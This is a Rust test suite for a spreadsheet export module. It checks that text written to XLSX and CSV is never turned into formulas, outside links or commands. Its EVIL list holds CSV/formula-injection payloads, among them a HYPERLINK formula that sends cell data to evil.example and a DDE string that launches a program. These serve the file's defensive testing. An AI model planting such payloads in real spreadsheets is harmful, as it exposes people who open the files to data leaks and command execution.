//! What leaves as XLSX and CSV: read back by another program's eyes, and without anything that computes.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use calamine::{Data, Reader, Xlsx};
use formats::sheet::out::{self, Badge, CellOut, CsvOptions, SheetOut, WorkbookOut};
use formats::sheet::{self, ReadOptions};
use jiff::civil::date;
use std::io::{Cursor, Read, Write};
use std::process::{Command, Stdio};

/// Texts that a spreadsheet would compute, or send to a server, if they were not kept as text.
const EVIL: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@x",
    "\u{a0}=1",
    "＝1+1",
    "http://evil.example",
    "mailto:a@b.example",
    "{=1}",
];

fn sheet_of(texts: &[&str]) -> SheetOut {
    SheetOut {
        name: "Gap: A/B [draft]".to_owned(),
        title: vec!["=Gap analysis".to_owned(), "As of 2026-03-31".to_owned()],
        headers: vec![
            "Text".to_owned(),
            "=Number".to_owned(),
            "Share".to_owned(),
            "Day".to_owned(),
            "Grade".to_owned(),
        ],
        rows: texts
            .iter()
            .map(|text| {
                vec![
                    CellOut::text(*text),
                    CellOut::Int(-7),
                    CellOut::Percent { tenths: 656 },
                    CellOut::Date(date(2026, 3, 31)),
                    CellOut::Badge(Badge::Part, (*text).to_owned()),
                ]
            })
            .collect(),
        widths: vec![40, 10],
        notes: vec!["-Coverage is not readiness.".to_owned()],
    }
}

fn book(sheets: Vec<SheetOut>) -> WorkbookOut {
    let created = "2026-03-31T08:00:00Z".parse().unwrap();
    WorkbookOut { title: "Gap analysis".to_owned(), subject: "ISO/IEC 27001:2022".to_owned(), created, sheets }
}

fn part(xlsx: &[u8], name: &str) -> String {
    let mut text = String::new();
    let mut zip = zip::ZipArchive::new(Cursor::new(xlsx)).unwrap();
    zip.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

#[test]
fn no_text_becomes_a_formula_or_a_link_in_xlsx() {
    let bytes = out::to_xlsx(&book(vec![sheet_of(EVIL)])).unwrap();
    let mut read: Xlsx<_> = Xlsx::new(Cursor::new(&bytes[..])).unwrap();
    assert_eq!(read.sheet_names(), ["Gap  A B  draft"]);
    assert!(read.worksheet_formula("Gap  A B  draft").unwrap().is_empty());
    let range = read.worksheet_range("Gap  A B  draft").unwrap();
    assert_eq!(range.get_value((0, 0)), Some(&Data::String("=Gap analysis".to_owned())));
    for (index, text) in EVIL.iter().enumerate() {
        let row = 4 + index as u32;
        // The reader itself folds a lone carriage return to a line feed.
        let got = range.get_value((row, 0)).unwrap().to_string().replace('\r', "\n");
        assert_eq!(got, text.replace('\r', "\n"), "{text:?}");
        assert_eq!(range.get_value((row, 1)), Some(&Data::Float(-7.0)));
        assert_eq!(range.get_value((row, 2)), Some(&Data::Float(0.656)));
    }
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<hyperlink"), "{sheet}");
    for name in zip::ZipArchive::new(Cursor::new(&bytes[..])).unwrap().file_names() {
        let name = name.unwrap();
        assert!(!name.ends_with(".rels") || !part(&bytes, &name).contains("External"), "{name}");
    }
}

#[test]
fn the_sheet_is_ready_to_work_with_and_to_print() {
    let bytes = out::to_xlsx(&book(vec![sheet_of(&["a", "b"])])).unwrap();
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    for mark in [
        "<pane ySplit=\"4\" topLeftCell=\"A5\"",
        "<autoFilter ref=\"A4:E6\"/>",
        "orientation=\"landscape\"",
        "fitToHeight=\"0\"",
        "&amp;P / &amp;N",
    ] {
        assert!(sheet.contains(mark), "{mark} in {sheet}");
    }
    assert!(part(&bytes, "xl/workbook.xml").contains("_xlnm.Print_Titles"));
    let core = part(&bytes, "docProps/core.xml");
    assert!(core.contains("2026-03-31T08:00:00Z") && core.contains("Gap analysis"), "{core}");
}

#[test]
fn the_same_content_gives_the_same_bytes() {
    let sheets = || book(vec![sheet_of(EVIL), SheetOut { name: "Notes".to_owned(), ..sheet_of(&["x"]) }]);
    let first = out::to_xlsx(&sheets()).unwrap();
    for _ in 0..3 {
        assert_eq!(out::to_xlsx(&sheets()).unwrap(), first);
    }
}

#[test]
fn links_lead_inside_the_workbook_only() {
    let link = |text: &str, sheet: &str| CellOut::Link { text: text.to_owned(), sheet: sheet.to_owned(), row: 1 };
    let from = SheetOut {
        name: "Gap".to_owned(),
        headers: vec!["Control".to_owned(), "Nowhere".to_owned()],
        rows: vec![vec![link("=A.5.7", "It's controls"), link("plain", "gone")]],
        ..SheetOut::default()
    };
    let to = SheetOut { name: "It's controls".to_owned(), ..sheet_of(&["a", "b"]) };
    let bytes = out::to_xlsx(&book(vec![from, to])).unwrap();
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("location=\"'It''s controls'!A6\""), "{sheet}");
    assert_eq!(sheet.matches("<hyperlink ").count(), 1);
    let mut read: Xlsx<_> = Xlsx::new(Cursor::new(&bytes[..])).unwrap();
    assert!(read.worksheet_formula("Gap").unwrap().is_empty());
    assert_eq!(read.worksheet_range("Gap").unwrap().get_value((1, 0)), Some(&Data::String("=A.5.7".to_owned())));
}

/// A long sheet is not held in memory while it is written; nothing of it differs for a reader.
#[test]
fn a_long_sheet_says_what_a_short_one_says() {
    let texts: Vec<&str> = EVIL.iter().copied().chain(["two\nlines", " kept ", ""]).cycle().take(5_200).collect();
    let link = CellOut::Link { text: "back".to_owned(), sheet: "Short".to_owned(), row: 0 };
    let mut long = SheetOut { name: "Long".to_owned(), ..sheet_of(&texts) };
    long.rows[5_100].push(link);
    let short = SheetOut { name: "Short".to_owned(), ..sheet_of(&texts[..40]) };
    let whole = book(vec![long, short]);
    let bytes = out::to_xlsx(&whole).unwrap();
    assert_eq!(bytes, out::to_xlsx(&whole).unwrap(), "the same bytes each time");
    let mut read: Xlsx<_> = Xlsx::new(Cursor::new(&bytes[..])).unwrap();
    assert!(read.worksheet_formula("Long").unwrap().is_empty());
    let (long, short) = (read.worksheet_range("Long").unwrap(), read.worksheet_range("Short").unwrap());
    for row in 0..44 {
        let of =
            |range: &calamine::Range<Data>| (0..5).map(|at| range.get_value((row, at)).cloned()).collect::<Vec<_>>();
        assert_eq!(of(&long), of(&short), "row {row}");
    }
    assert_eq!(long.get_value((5_204 + 1, 0)), Some(&Data::String("-Coverage is not readiness.".to_owned())));
    assert_eq!(long.get_value((4 + 5_100, 5)), Some(&Data::String("back".to_owned())));
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    for kept in ["<pane ySplit=\"4\"", "<autoFilter ref=\"A4:E5204\"/>", "location=\"'Short'!A5\"", "t=\"inlineStr\""] {
        assert!(sheet.contains(kept), "{kept}");
    }
    assert!(!part(&bytes, "xl/worksheets/sheet2.xml").contains("inlineStr"), "a short one stays as it was");
}

#[test]
fn names_and_texts_that_xlsx_has_no_room_for_are_made_fit() {
    let named = |name: &str| SheetOut { name: name.to_owned(), headers: vec!["a".to_owned()], ..SheetOut::default() };
    let long = "Statement of applicability for all sites";
    let sheets = vec![named(long), named(long), named("'History'"), named(""), named("🔐")];
    let bytes = out::to_xlsx(&book(sheets)).unwrap();
    let read: Xlsx<_> = Xlsx::new(Cursor::new(&bytes[..])).unwrap();
    assert_eq!(
        read.sheet_names(),
        ["Statement of applicability for", "Statement of applicability fo 2", "History sheet", "Sheet", "Sheet 2"]
    );
    let long = "é🔐".repeat(20_000);
    let bytes = out::to_xlsx(&book(vec![sheet_of(&[&long])])).unwrap();
    let mut read: Xlsx<_> = Xlsx::new(Cursor::new(&bytes[..])).unwrap();
    let range = read.worksheet_range_at(0).unwrap().unwrap();
    let text = range.get_value((4, 0)).unwrap().to_string();
    assert!(text.ends_with("[cut: the text is longer than a spreadsheet cell]"));
    assert!(text.encode_utf16().count() <= 32_767);
    assert!(out::to_xlsx(&book(Vec::new())).is_err());
}

#[test]
fn no_text_becomes_a_formula_in_csv() {
    let bytes = out::to_csv(&sheet_of(EVIL), CsvOptions { bom: true, lines: true }).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF'=Gap analysis\r\nAs of 2026-03-31\r\nText,'=Number,Share,Day,Grade\r\n"));
    assert!(bytes.ends_with(b"\r\n'-Coverage is not readiness.\r\n"));
    let mut reader = csv::ReaderBuilder::new().flexible(true).has_headers(false).from_reader(&bytes[3..]);
    for (record, text) in reader.records().skip(3).zip(EVIL) {
        let record = record.unwrap();
        let harmless = ["http", "mailto", "{"].iter().any(|start| text.starts_with(start));
        assert_eq!(record[0], if harmless { (*text).to_owned() } else { format!("'{text}") });
        assert_eq!(record.iter().skip(1).take(3).collect::<Vec<_>>(), ["-7", "65.6%", "2026-03-31"]);
    }
    let plain = out::to_csv(&sheet_of(&["a, \"b\"\nc"]), CsvOptions::default()).unwrap();
    assert_eq!(
        String::from_utf8(plain).unwrap(),
        "Text,'=Number,Share,Day,Grade\r\n\"a, \"\"b\"\"\nc\",-7,65.6%,2026-03-31,\"a, \"\"b\"\"\nc\"\r\n"
    );
}

#[test]
fn what_a_quote_keeps_from_being_computed_comes_back_without_it() {
    let meant = ["=1+1", "-5", "+49 151", "@home", "'=1+1", "''-5", "'quoted'", "it's", "'", "\u{ff1d}1", "plain"];
    let mut out = sheet_of(&meant);
    out.headers = ["Words", "Number", "Share", "Day", "Status"].map(str::to_owned).to_vec();
    let csv = out::to_csv(&out, CsvOptions::default()).unwrap();
    let table = sheet::read(&csv, "list.csv", ReadOptions::default()).unwrap();
    let read: Vec<&str> = table.rows.iter().map(|row| row.cell(0)).collect();
    assert_eq!(read, meant);
    // Another reader sees the quote, as a spreadsheet does.
    let mut other = csv::ReaderBuilder::new().from_reader(&csv[..]);
    let seen: Vec<String> = other.records().map(|record| record.unwrap()[0].to_owned()).collect();
    assert_eq!(seen[..5], ["'=1+1", "'-5", "'+49 151", "'@home", "''=1+1"]);
    assert_eq!(seen[6..9], ["'quoted'", "it's", "'"]);
}

#[test]
fn what_was_written_is_read_again_by_our_own_reader() {
    let mut out = sheet_of(&["AC-1", "AC-2"]);
    out.headers = ["Control ID", "Number", "Share", "Day", "Status"].map(str::to_owned).to_vec();
    let xlsx = out::to_xlsx(&book(vec![out.clone()])).unwrap();
    let csv = out::to_csv(&out, CsvOptions { bom: true, lines: true }).unwrap();
    for (bytes, name, share, header_row) in [(xlsx, "gap.xlsx", "0.656", 4), (csv, "gap.csv", "65.6%", 3)] {
        let table = sheet::read(&bytes, name, ReadOptions::default()).unwrap();
        assert_eq!((table.header_row, &table.headers), (header_row, &out.headers));
        assert_eq!(table.rows[1].cells, ["AC-2", "-7", share, "2026-03-31", "AC-2"]);
    }
}

#[test]
fn another_reader_agrees() {
    let present = Command::new("python3").args(["-c", "import openpyxl"]).stderr(Stdio::null()).status();
    if !present.is_ok_and(|s| s.success()) {
        eprintln!("skipped: python3 with openpyxl is not here");
        return;
    }
    let bytes = out::to_xlsx(&book(vec![sheet_of(EVIL)])).unwrap();
    let mut file = tempfile::NamedTempFile::new().unwrap();
    file.write_all(&bytes).unwrap();
    let script = "import sys, openpyxl\n\
        s = openpyxl.load_workbook(open(sys.argv[1], 'rb')).active\n\
        types = sorted({c.data_type for r in s.iter_rows() for c in r if c.value is not None})\n\
        print(types, s.freeze_panes, s.auto_filter.ref, s['D5'].value.date(), s['C5'].value, repr(s['A5'].value))";
    let output = Command::new("python3").arg("-c").arg(script).arg(file.path()).output().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&output.stdout).trim(),
        "['d', 'n', 's'] A5 A4:E18 2026-03-31 0.656 '=1+1'",
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

#[test]
fn a_row_is_as_high_as_its_fullest_cell() {
    let row = |text: &str| vec![CellOut::text(text), CellOut::text("short")];
    let sheet = SheetOut {
        name: "One".to_owned(),
        headers: vec!["A".to_owned(), "Exclusions with reasons".to_owned()],
        rows: vec![
            row("one line"),
            row(&"words that wrap ".repeat(12)),
            row(&"风险登记册".repeat(4)),
            row("RI-5 Verantwortungsprotokoll-Fassung"),
        ],
        widths: vec![20, 10],
        ..SheetOut::default()
    };
    let book = WorkbookOut {
        title: String::new(),
        subject: String::new(),
        created: jiff::Timestamp::UNIX_EPOCH,
        sheets: vec![sheet],
    };
    let bytes = out::to_xlsx(&book).expect("a workbook");
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip file");
    let mut xml = String::new();
    let mut part = archive.by_name("xl/worksheets/sheet1.xml").expect("the sheet");
    std::io::Read::read_to_string(&mut part, &mut xml).expect("text");
    let height = |row: u32| {
        let start = xml.find(&format!("<row r=\"{row}\"")).expect("the row");
        let tag = &xml[start..start + xml[start..].find('>').expect("its end")];
        tag.split("ht=\"").nth(1).and_then(|h| h.split('"').next()?.parse::<f64>().ok())
    };
    // A height is a whole number of pixels, so that lines are counted with a little to spare.
    let lines = |row: u32, lines: f64| height(row).is_some_and(|height| (height - lines * 14.5).abs() < 1.0);
    assert!(lines(1, 3.0), "a heading is shown whole: {:?}", height(1));
    assert_eq!(height(2), None, "one line needs no height of its own");
    assert!(height(3).is_some_and(|h| h > 100.0), "{:?}", height(3));
    assert!(lines(4, 2.0), "twenty letters of twice the width take two lines: {:?}", height(4));
    assert!(lines(5, 3.0), "a word too long for a line begins on its own: {:?}", height(5));
}
